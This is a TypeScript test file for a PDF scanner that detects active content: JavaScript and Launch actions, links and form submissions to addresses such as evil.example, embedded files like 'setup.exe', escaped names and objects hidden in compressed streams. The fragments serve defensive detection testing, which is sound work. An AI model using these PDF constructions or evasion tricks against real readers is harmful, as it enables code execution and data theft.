/** The PDF scanner on hand-written files: what counts as a name, and where objects can hide. */
import zlib from 'node:zlib'

import { describe, expect, it } from 'vitest'

import { decodeName, scanPdf } from './pdfScan'

const pdf = (...parts: (string | Buffer)[]) =>
  Buffer.concat([Buffer.from('%PDF-1.7\n', 'latin1'), ...parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part))])

const stream = (dictionary: string, data: Buffer | string) => {
  const bytes = typeof data === 'string' ? Buffer.from(data, 'latin1') : data
  return Buffer.concat([Buffer.from(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`, 'latin1'), bytes, Buffer.from('\nendstream\n', 'latin1')])
}

describe('scanPdf', () => {
  it('decodes #xx escapes in names', () => {
    expect(decodeName('J#61vaScript')).toBe('JavaScript')
    expect(decodeName('L#61#75nch')).toBe('Launch')
    expect(decodeName('A#2')).toBe('A#2')
  })

  it('finds the names as keys or values, next to any delimiter', () => {
    for (const body of ['<</S/JavaScript>>', '<< /AA << /O << /JS 9 0 R >> >> >>', '[/Launch]', '<</S /L#61unch>>']) {
      expect(scanPdf(pdf(`1 0 obj ${body} endobj`))).toEqual({ ok: false, reason: 'active' })
    }
  })

  it('finds actions that open an address or another file, and files carried inside', () => {
    for (const body of [
      '<< /Type /Catalog /OpenAction << /S /URI /URI (https://evil.example/) >> >>',
      '<< /Type /Annot /Subtype /Link /A << /S /U#52I /URI (https://campus.example) >> >>',
      '<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>',
      '<< /S /GoToE /T << /R /C /N (x) >> >>',
      '<< /S /SubmitForm /F (https://evil.example/collect) >>',
      '<< /S /ImportData /F (data.fdf) >>',
      '<< /Type /Catalog /Names << /EmbeddedFiles 9 0 R >> >>',
      '<< /Type /EmbeddedFile /Length 3 >>',
      '<< /Type /Annot /Subtype /FileAttachment /FS 8 0 R >>',
      '<< /Type /Annot /Subtype /RichMedia >>',
    ]) {
      expect(scanPdf(pdf(`1 0 obj ${body} endobj`)), body).toEqual({ ok: false, reason: 'active' })
    }
  })

  it('finds them inside compressed object streams too', () => {
    const objects = zlib.deflateSync(Buffer.from('7 0 << /Names << /Embedd#65dFiles << /Names [(setup.exe) 8 0 R] >> >> >>'))
    expect(scanPdf(pdf('6 0 obj ', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', objects), 'endobj'))).toEqual({ ok: false, reason: 'active' })
  })

  it('leaves an opening view alone: /OpenAction by itself is where the viewer starts', () => {
    expect(scanPdf(pdf('1 0 obj << /Type /Catalog /OpenAction [3 0 R /FitH 842] /URIBase (x) >> endobj'))).toEqual({ ok: true })
  })

  it('leaves alone the names in strings, comments and longer names', () => {
    const harmless = pdf('% /JavaScript in a comment\n', '1 0 obj << /Title (see /JS \\) /Launch) /Subject <2F4A53> /JSON 1 /Launcher 2 >> endobj')
    expect(scanPdf(harmless)).toEqual({ ok: true })
  })

  it('reads a stream by its /Length, or to endstream when the length is wrong or indirect', () => {
    const data = Buffer.from('\x00/JS \x01', 'latin1')
    expect(scanPdf(pdf('1 0 obj ', stream('/Subtype /Image', data), 'endobj'))).toEqual({ ok: true })
    const wrongLength = Buffer.concat([Buffer.from('1 0 obj << /Length 999 >>\nstream\n', 'latin1'), data, Buffer.from('\nendstream endobj', 'latin1')])
    expect(scanPdf(pdf(wrongLength))).toEqual({ ok: true })
    const indirect = Buffer.concat([Buffer.from('1 0 obj << /Length 2 0 R >>\nstream\n', 'latin1'), data, Buffer.from('\nendstream endobj', 'latin1')])
    expect(scanPdf(pdf(indirect))).toEqual({ ok: true })
  })

  it('scans an object that a cross-reference could point to inside a stream', () => {
    const hidden = stream('/Subtype /Image', 'binary 7 0 obj << /S /JavaScript /JS (x) >> endobj')
    expect(scanPdf(pdf('1 0 obj ', hidden, 'endobj'))).toEqual({ ok: false, reason: 'active' })
  })

  it('inflates object streams, also those marked only by /First, and scans them', () => {
    const objects = zlib.deflateSync(Buffer.from('7 0 << /S /Launch /F (x) >>'))
    expect(scanPdf(pdf('6 0 obj ', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', objects), 'endobj'))).toEqual({ ok: false, reason: 'active' })
    expect(scanPdf(pdf('6 0 obj ', stream('/N 1 /First 4 /Filter [/FlateDecode]', objects), 'endobj'))).toEqual({ ok: false, reason: 'active' })
    expect(scanPdf(pdf('6 0 obj ', stream('/Type /Obj#53tm /N 1 /First 4 /Filter /Fl#61teDecode', objects), 'endobj'))).toEqual({ ok: false, reason: 'active' })
  })

  it('refuses object streams it cannot read: other filters, predictors, data that does not inflate, nesting', () => {
    const hex = Buffer.from('7 0 << /S /JavaScript >>').toString('hex')
    expect(scanPdf(pdf('6 0 obj ', stream('/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', hex), 'endobj'))).toEqual({ ok: false, reason: 'unreadable' })
    const deflated = zlib.deflateSync(Buffer.from('7 0 << >>'))
    expect(scanPdf(pdf('6 0 obj ', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>', deflated), 'endobj'))).toEqual({
      ok: false,
      reason: 'unreadable',
    })
    expect(scanPdf(pdf('6 0 obj ', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', 'not deflate data'), 'endobj'))).toEqual({ ok: false, reason: 'unreadable' })
    let nested: Buffer = Buffer.from('<< >>')
    for (let level = 0; level < 10; level += 1) nested = stream('/Type /ObjStm /N 1 /First 0', nested)
    expect(scanPdf(pdf('6 0 obj ', nested, 'endobj'))).toEqual({ ok: false, reason: 'unreadable' })
  })

  it('stays fast on hostile shapes: megabytes of digits, brackets and unclosed strings', () => {
    const started = performance.now()
    expect(scanPdf(pdf('1 0 obj ', stream('/Subtype /Image', '1 '.repeat(2_000_000)), 'endobj'))).toEqual({ ok: true })
    expect(scanPdf(pdf('1 0 obj ', '<<'.repeat(1_000_000)))).toEqual({ ok: true })
    expect(scanPdf(pdf('1 0 obj (', '('.repeat(2_000_000)))).toEqual({ ok: true })
    // Generous for a busy machine; a quadratic scan takes minutes here.
    expect(performance.now() - started).toBeLessThan(10_000)
  })
})
